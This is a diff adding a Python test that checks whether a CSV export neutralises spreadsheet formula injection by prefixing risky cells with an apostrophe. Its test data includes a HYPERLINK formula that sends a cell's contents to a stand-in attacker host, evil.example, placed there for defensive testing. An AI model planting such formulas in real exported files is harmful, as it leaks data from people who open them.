@@ -104,3 +104,18 @@ def test_a_failed_export_leaves_no_file(world, ledger, tmp_path):
         )
     assert list(folder.iterdir()) == []  # neither the file nor a partial one
     assert Problem.objects.count() == 3
+
+
+def test_csv_cells_a_spreadsheet_would_run_stay_text_and_read_back(world, tmp_path):
+    from taizhang.sheets.reading import read_table
+    from taizhang.sheets.workbook import Column, write_csv
+
+    hostile = ['=HYPERLINK("http://evil.example/?d="&C5,"点此")', "+1", "-1+2", "@SUM(A1:A9)",
+               "\tx", "正常文本", "a=b"]  # fmt: skip
+    out = tmp_path / "out.csv"
+    write_csv(out, columns=[Column("值", 20)], rows=[[v] for v in hostile] + [[-5], [3.5]])
+    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))[1:]
+    cells = [r[0] for r in rows]
+    assert all(c.startswith("'") for c in cells[:5])
+    assert cells[5:] == ["正常文本", "a=b", "-5", "3.5"]  # numbers are numbers, not text
+    assert [r[0] for r in read_table(out, set()).rows[1:]] == [*hostile, "-5", "3.5"]
